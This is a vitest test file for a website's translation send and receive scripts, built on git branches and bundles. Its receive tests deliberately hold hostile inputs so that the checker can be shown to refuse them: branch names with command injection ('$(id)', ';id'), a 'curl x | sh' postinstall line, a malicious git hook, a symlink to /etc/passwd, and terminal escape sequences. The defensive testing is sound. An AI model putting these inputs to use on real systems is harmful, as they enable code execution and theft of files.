import { spawnSync } from 'node:child_process'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest'
import { receiveTranslations } from '../../scripts/i18n/receive.ts'
import { sendTranslations } from '../../scripts/i18n/send.ts'
import { ProjectCopy } from '../support/project-copy.ts'

const nbsp = '\u00a0'

/** A translator's clone of the project: one commit, and a remote (a bare repository) when asked. */
class TranslatorClone extends ProjectCopy {
  readonly remote = mkdtempSync(join(tmpdir(), 'studio-remote-'))

  constructor({ withRemote = true } = {}) {
    super()
    this.write('.gitignore', 'node_modules\ntranslations/\n')
    this.git('init', '--quiet', '--initial-branch=main')
    this.git('config', 'user.name', 'Ama Translator')
    this.git('config', 'user.email', 'ama@example.com')
    this.git('add', '-A')
    this.git('commit', '--quiet', '-m', 'The project')
    if (withRemote) {
      this.git('init', '--quiet', '--bare', this.remote)
      this.git('remote', 'add', 'origin', this.remote)
    }
  }

  git(...args: string[]): string {
    const result = spawnSync('git', args, { cwd: this.root, encoding: 'utf8' })
    if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.stderr}`)
    return result.stdout.trim()
  }

  /** Everything a translator could lose: the branch, the index and the working tree's state. */
  state() {
    return { branch: this.git('branch', '--show-current'), status: this.git('status', '--porcelain'), staged: this.git('diff', '--cached') }
  }

  override remove(): void {
    super.remove()
    rmSync(this.remote, { recursive: true, force: true })
  }
}

const callNow = `"callNow": "Appelez-nous${nbsp}: {{phone}}"`

describe('npm run i18n:send', () => {
  let clone: TranslatorClone
  afterEach(() => clone.remove())

  it('commits the language’s saved changes, and only those, on a new branch pushed to origin; the translator’s work stays as it was', async () => {
    clone = new TranslatorClone()
    clone.replace('locales/fr/home.json', callNow, callNow.replace('nous', 'nous dès aujourd’hui'))
    // Other work in progress: an English change staged, a code change, an untracked file.
    clone.replace('locales/en/home.json', '"callNow": "Call Now: {{phone}}"', '"callNow": "Call Us: {{phone}}"')
    clone.git('add', 'locales/en/home.json')
    clone.write('src/site.config.ts', `${clone.read('src/site.config.ts')}\n// work in progress\n`)
    clone.write('notes.txt', 'mine')
    const before = clone.state()
    const frenchBefore = clone.read('locales/fr/home.json')

    const result = await sendTranslations(clone.root, { language: 'fr', now: new Date(Date.UTC(2030, 0, 2, 9, 5)) })

    expect(result).toMatchObject({ status: 'pushed', branch: 'translations/fr-2030-01-02-0905', keys: ['home:hero.callNow'] })
    const remote = (...args: string[]) => spawnSync('git', ['--git-dir', clone.remote, ...args], { encoding: 'utf8' }).stdout.trim()
    const branch = 'translations/fr-2030-01-02-0905'
    expect(remote('diff', '--name-only', `${branch}~1`, branch)).toBe('locales/fr/home.json')
    expect(remote('log', '-1', '--format=%B', branch)).toContain('- home:hero.callNow')
    expect(remote('show', `${branch}:locales/fr/home.json`)).toContain('Appelez-nous dès aujourd’hui')
    // The English still as in the last commit: only French was sent.
    expect(remote('show', `${branch}:locales/en/home.json`)).toContain('"callNow": "Call Now: {{phone}}"')
    expect(clone.state()).toEqual(before)
    expect(clone.read('locales/fr/home.json')).toBe(frenchBefore)
  })

  it('without a remote, writes one file that the team’s npm run i18n:receive brings in as a branch and checks', async () => {
    clone = new TranslatorClone({ withRemote: false })
    clone.replace('locales/fr/home.json', callNow, callNow.replace('nous', 'nous vite'))
    const result = await sendTranslations(clone.root, { language: 'fr' })
    expect(result).toMatchObject({ status: 'bundled', why: expect.stringContaining('no remote called origin') })
    if (result.status !== 'bundled') return

    // The team's repository: the project as it was, without the translator's change.
    const team = new TranslatorClone({ withRemote: false })
    try {
      team.git('fetch', '--quiet', clone.root, 'main:refs/remotes/translator/main')
      team.git('reset', '--quiet', '--hard', 'translator/main')
      const received = await receiveTranslations(team.root, join(clone.root, result.file))
      expect(received).toMatchObject({
        status: 'received',
        branches: [expect.objectContaining({ name: result.branch, commit: result.commit })],
        files: ['locales/fr/home.json'],
      })
      expect(received.status === 'received' && received.problems.filter(({ level }) => level === 'error')).toEqual([])
      expect(team.git('show', `${result.branch}:locales/fr/home.json`)).toContain('Appelez-nous vite')
      expect(team.git('branch', '--show-current')).toBe('main')
    } finally {
      team.remove()
    }
  })

  it('sends the translation alone, built on origin’s last commit: the translator’s own unpushed commits stay on their computer', async () => {
    clone = new TranslatorClone()
    clone.git('push', '--quiet', 'origin', 'main')
    clone.git('remote', 'set-head', 'origin', 'main')
    const shared = clone.git('rev-parse', 'main')
    clone.write('src/site.config.ts', `${clone.read('src/site.config.ts')}\n// work in progress\n`)
    clone.git('commit', '--quiet', '-am', 'Work in progress')
    const own = clone.git('rev-parse', 'HEAD')
    clone.replace('locales/fr/home.json', callNow, callNow.replace('nous', 'nous vite'))

    const result = await sendTranslations(clone.root, { language: 'fr' })

    expect(result.status).toBe('pushed')
    const branch = result.status === 'pushed' ? result.branch : ''
    const remote = (...args: string[]) => spawnSync('git', ['--git-dir', clone.remote, ...args], { encoding: 'utf8' })
    expect(remote('rev-parse', `${branch}~1`).stdout.trim()).toBe(shared)
    expect(remote('diff', '--name-only', `${branch}~1`, branch).stdout.trim()).toBe('locales/fr/home.json')
    expect(remote('cat-file', '-e', own).status).not.toBe(0)
    expect(clone.git('rev-parse', 'HEAD')).toBe(own)
  })

  it('pushes over ssh with the translator’s own ssh command, in batch mode so that nothing is asked; refused, it writes the file', async () => {
    clone = new TranslatorClone({ withRemote: false })
    const seen = join(clone.root, 'ssh-arguments')
    clone.write('fake-ssh', `#!/bin/sh\necho "$@" > '${seen}'\nexit 255\n`)
    chmodSync(join(clone.root, 'fake-ssh'), 0o755)
    clone.git('config', 'core.sshCommand', `'${join(clone.root, 'fake-ssh')}' -i work_key`)
    clone.git('remote', 'add', 'origin', 'ssh://git@example.invalid/studio.git')
    clone.replace('locales/fr/home.json', callNow, callNow.replace('nous', 'nous vite'))

    const result = await sendTranslations(clone.root, { language: 'fr' })

    expect(result).toMatchObject({ status: 'bundled', why: expect.stringContaining('the push to origin was refused') })
    expect(clone.read('ssh-arguments')).toMatch(/^-i work_key -o BatchMode=yes .*example\.invalid/)
  })

  it('writes the file when the push hangs, as when it is refused', async () => {
    clone = new TranslatorClone({ withRemote: false })
    // Holds the push without a word, until git hangs up.
    clone.write('hanging-ssh', '#!/bin/sh\nexec cat >/dev/null\n')
    chmodSync(join(clone.root, 'hanging-ssh'), 0o755)
    clone.git('config', 'core.sshCommand', join(clone.root, 'hanging-ssh'))
    clone.git('remote', 'add', 'origin', 'ssh://git@example.invalid/studio.git')
    clone.replace('locales/fr/home.json', callNow, callNow.replace('nous', 'nous vite'))

    const result = await sendTranslations(clone.root, { language: 'fr', pushTimeout: 1000 })

    expect(result).toMatchObject({ status: 'bundled', why: expect.stringContaining('the push to origin did not finish') })
    expect(result.status === 'bundled' && existsSync(join(clone.root, result.file))).toBe(true)
  })

  it('refuses a second send while one is under way, saying so, and makes one branch', async () => {
    clone = new TranslatorClone()
    clone.replace('locales/fr/home.json', callNow, callNow.replace('nous', 'nous vite'))
    const results = await Promise.all([1, 2].map(() => sendTranslations(clone.root, { language: 'fr' })))
    expect(results.map(({ status }) => status)).toEqual(['pushed', 'refused'])
    expect(results[1]).toEqual({ status: 'refused', reasons: [expect.stringContaining('another send is under way')] })
    expect(clone.git('branch', '--list', 'translations/*').split('\n')).toHaveLength(1)
  })

  it('refuses, and changes nothing, when there is nothing to send', async () => {
    clone = new TranslatorClone()
    clone.replace('locales/en/home.json', '"callNow": "Call Now: {{phone}}"', '"callNow": "Call Us: {{phone}}"')
    const result = await sendTranslations(clone.root, { language: 'fr' })
    expect(result).toEqual({ status: 'refused', reasons: [expect.stringContaining('no saved changes to send')] })
    expect(clone.git('branch', '--list', 'translations/*')).toBe('')
  })

  it('sends the studio’s content: the data files, their photos and their entries’ English words, and no other English', async () => {
    clone = new TranslatorClone({ withRemote: false })
    const projects = JSON.parse(clone.read('src/content/data/projects.json')) as { projects: Record<string, unknown>[] }
    projects.projects.push({ ...projects.projects[0], id: 'solarGrid', image: { file: 'solar-grid.png', width: 800, height: 500 } })
    clone.write('src/content/data/projects.json', `${JSON.stringify(projects, null, 2)}\n`)
    mkdirSync(join(clone.root, 'src/content/photos'), { recursive: true })
    clone.write('src/content/photos/solar-grid.png', 'png')
    const english = JSON.parse(clone.read('locales/en/projects.json')) as { items: Record<string, Record<string, string>> }
    english.items.solarGrid = { ...english.items.mediTrack!, title: 'SolarGrid Dashboard' }
    clone.write('locales/en/projects.json', `${JSON.stringify(english, null, 2)}\n`)
    // A developer's work in progress on English that is not the content's: it stays here.
    clone.replace('locales/en/home.json', '"callNow": "Call Now: {{phone}}"', '"callNow": "Call Us: {{phone}}"')

    const result = await sendTranslations(clone.root, { language: 'fr', now: new Date(Date.UTC(2030, 0, 2, 9, 5)) })

    expect(result).toMatchObject({
      status: 'bundled',
      content: ['src/content/data/projects.json', 'src/content/photos/solar-grid.png'],
      keys: expect.arrayContaining(['projects:items.solarGrid.title (English)']),
      toTranslate: [
        expect.stringMatching(
          /^src\/content\/data\/projects\.json › projects\[12\] "solarGrid": missing translation: add items\.solarGrid\.title/,
        ),
      ],
    })
    const branch = 'translations/fr-2030-01-02-0905'
    expect(clone.git('diff', '--name-only', `${branch}~1`, branch).split('\n')).toEqual([
      'locales/en/projects.json',
      'src/content/data/projects.json',
      'src/content/photos/solar-grid.png',
    ])
    expect(JSON.parse(clone.git('show', `${branch}:locales/en/projects.json`)).items.solarGrid.title).toBe('SolarGrid Dashboard')
    expect(clone.git('log', '-1', '--format=%s', branch)).toBe('Studio content: projects.json, solar-grid.png, 7 texts from the workspace')

    // The team takes the file in: it holds only what a send may carry.
    const team = new TranslatorClone({ withRemote: false })
    try {
      team.git('fetch', '--quiet', clone.root, 'main:refs/remotes/translator/main')
      team.git('reset', '--quiet', '--hard', 'translator/main')
      if (result.status === 'bundled')
        expect(await receiveTranslations(team.root, join(clone.root, result.file))).toMatchObject({
          status: 'received',
          files: ['locales/en/projects.json', 'src/content/data/projects.json', 'src/content/photos/solar-grid.png'],
        })
    } finally {
      team.remove()
    }
  })

  it('refuses content the content check rejects, naming file, entry, field and reason', async () => {
    clone = new TranslatorClone()
    clone.replace('src/content/data/plans.json', '"priceUsd": 150', '"priceUsd": "150$"')
    const result = await sendTranslations(clone.root, { language: 'fr' })
    expect(result.status === 'refused' && result.reasons.join('\n')).toContain(
      'src/content/data/plans.json › plans[0] "businessGrowth" › priceUsd: expected a number, got "150$"',
    )
    expect(clone.git('branch', '--list', 'translations/*')).toBe('')
  })

  it('refuses a change the check rejects, naming it, and sends nothing', async () => {
    clone = new TranslatorClone()
    clone.replace('locales/fr/home.json', callNow, '"callNow": "Appelez-nous"')
    const result = await sendTranslations(clone.root, { language: 'fr' })
    expect(result.status).toBe('refused')
    expect(result.status === 'refused' && result.reasons.join('\n')).toMatch(
      /home\.json:\d+ › hero\.callNow: must keep English's placeholders/,
    )
    expect(clone.git('branch', '--list', 'translations/*')).toBe('')
    expect(spawnSync('git', ['--git-dir', clone.remote, 'branch', '--list'], { encoding: 'utf8' }).stdout).toBe('')
  })
})

describe('npm run i18n:receive takes a file only when it holds a translation and nothing else', () => {
  let team: TranslatorClone
  const senders: string[] = []
  beforeAll(() => {
    team = new TranslatorClone({ withRemote: false })
    team.git('branch', 'release')
  })
  afterAll(() => {
    team.remove()
    for (const folder of senders) rmSync(folder, { recursive: true, force: true })
  })

  const branch = 'translations/fr-2030-01-02-0905'
  type Sender = { git: (...args: string[]) => string; write: (path: string, text: string) => void }

  /** A file as anyone with a clone of the team's repository can write it: `build` makes the commits, `refs` are bundled. */
  function bundle(build: (sender: Sender) => void, refs: string[]): string {
    const folder = mkdtempSync(join(tmpdir(), 'studio-sender-'))
    senders.push(folder)
    spawnSync('git', ['clone', '--quiet', team.root, folder])
    const git = (...args: string[]) => {
      const result = spawnSync('git', args, { cwd: folder, encoding: 'utf8' })
      if (result.status !== 0) throw new Error(`git ${args.join(' ')}: ${result.stderr}`)
      return result.stdout.trim()
    }
    const write = (path: string, text: string) => {
      mkdirSync(dirname(join(folder, path)), { recursive: true })
      writeFileSync(join(folder, path), text)
    }
    git('config', 'user.name', 'Sender')
    git('config', 'user.email', 'sender@example.com')
    build({ git, write })
    git('bundle', 'create', '--quiet', 'sent.bundle', ...refs, `^${team.git('rev-parse', 'main')}`)
    return join(folder, 'sent.bundle')
  }

  /** A French translation committed on `name`, with `subject`. */
  const translation =
    (name: string, subject = 'French translations: 1 text from the translation workspace') =>
    ({ git, write }: Sender) => {
      git('checkout', '--quiet', '-b', name, 'main')
      write('locales/fr/home.json', team.read('locales/fr/home.json').replace(callNow, callNow.replace('nous', 'nous vite')))
      git('commit', '--quiet', '-am', subject)
    }

  /** Every branch and tag of the team's repository, where it points, and whether a fetch left a note. */
  const state = () => ({
    refs: team.git('for-each-ref', '--format=%(refname) %(objectname)'),
    fetched: existsSync(join(team.root, '.git/FETCH_HEAD')),
  })

  async function expectRefused(file: string, reasons: RegExp[]) {
    const before = state()
    expect(await receiveTranslations(team.root, file)).toEqual({
      status: 'refused',
      reasons: reasons.map((reason) => expect.stringMatching(reason)),
    })
    expect(state()).toEqual(before)
  }

  it('refuses branches that npm run i18n:send does not make, and moves none of the team’s', async () => {
    const file = bundle(
      (sender) => {
        translation('translations/fr')(sender)
        sender.git('branch', '--force', 'main')
        sender.git('branch', '--force', 'release')
      },
      ['refs/heads/main', 'refs/heads/release'],
    )
    await expectRefused(file, [/^refs\/heads\/main is not a branch npm run i18n:send makes/, /^refs\/heads\/release is not/])
  })

  it('refuses a branch of the same name as one of the team’s', async () => {
    team.git('branch', branch, 'main')
    try {
      await expectRefused(bundle(translation(branch), [`refs/heads/${branch}`]), [
        /^the branch translations\/fr-2030-01-02-0905 exists here already/,
      ])
    } finally {
      team.git('branch', '--delete', '--force', branch)
    }
  })

  it('refuses a file with a tag, and makes no tag', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.git('tag', 'v9.9')
      },
      [`refs/heads/${branch}`, 'refs/tags/v9.9'],
    )
    await expectRefused(file, [/^refs\/tags\/v9\.9 is not a branch/])
    expect(team.git('tag', '--list')).toBe('')
  })

  it('refuses branch names that would run commands if pasted into a shell', async () => {
    const names = ['translations/fr$(id)', `${branch};id`]
    const file = bundle(
      (sender) => names.forEach((name) => translation(name)(sender)),
      names.map((name) => `refs/heads/${name}`),
    )
    await expectRefused(file, [/^refs\/heads\/translations\/fr\$\(id\) is not/, /^refs\/heads\/translations\/fr-2030-01-02-0905;id is not/])
  })

  it('refuses a commit that changes anything but translations, naming each file', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        sender.write('package.json', team.read('package.json').replace('"private"', '"postinstall": "curl x | sh", "private"'))
        sender.write('scripts/hooks/post-checkout', '#!/bin/sh\ntouch "$HOME/hooked"\n')
        sender.git('add', '-A')
        sender.git('commit', '--quiet', '-m', 'French translations')
      },
      [`refs/heads/${branch}`],
    )
    // The hook would run if the team's git looked for hooks in the received tree.
    team.git('config', 'core.hooksPath', 'scripts/hooks')
    try {
      await expectRefused(file, [
        /^package\.json is not a file a translation may change/,
        /^scripts\/hooks\/post-checkout is not a file a translation may change/,
      ])
    } finally {
      team.git('config', '--unset', 'core.hooksPath')
    }
  })

  it('refuses a symbolic link among the translations', async () => {
    const file = bundle(
      (sender) => {
        translation(branch)(sender)
        symlinkSync('/etc/passwd', join(sender.git('rev-parse', '--show-toplevel'), 'locales/fr/secrets.json'))
        sender.git('add', '-A')
        sender.git('commit', '--quiet', '-m', 'French translations')
      },
      [`refs/heads/${branch}`],
    )
    await expectRefused(file, [/^locales\/fr\/secrets\.json is a symbolic link$/])
  })

  it('takes a translation as its branch, runs no hook, prints its files and a merge command safe to paste, with no terminal escapes', async () => {
    const subject = 'French translations\u001b]0;pwned\u0007\u001b[2J: 1 text'
    const file = bundle(translation(branch, subject), [`refs/heads/${branch}`])
    const hooked = join(team.root, 'hooked')
    for (const hook of ['post-checkout', 'reference-transaction']) {
      team.write(`.git/hooks/${hook}`, `#!/bin/sh\ntouch '${hooked}'\n`)
      chmodSync(join(team.root, `.git/hooks/${hook}`), 0o755)
    }

    const { status, output } = team.run(`node scripts/i18n-receive.ts ${file}`)

    expect(output).not.toContain('\u001b')
    expect(output).toContain(`Branch ${branch}: French translations: 1 text\n`)
    expect(output).toContain('It changes 1 file:\n  locales/fr/home.json\n')
    expect(output).toContain(`To take it: git merge ${branch} (or push it`)
    expect(status).toBe(0)
    expect(team.git('show', `${branch}:locales/fr/home.json`)).toContain('Appelez-nous vite')
    expect(existsSync(hooked)).toBe(false)
  })
})

describe('npm run i18n:send without git', () => {
  it('refuses, saying git is missing', async () => {
    const path = process.env.PATH
    process.env.PATH = tmpdir()
    try {
      expect(await sendTranslations(tmpdir(), { language: 'fr' })).toEqual({
        status: 'refused',
        reasons: [expect.stringContaining('git is not installed')],
      })
    } finally {
      process.env.PATH = path
    }
  })
})
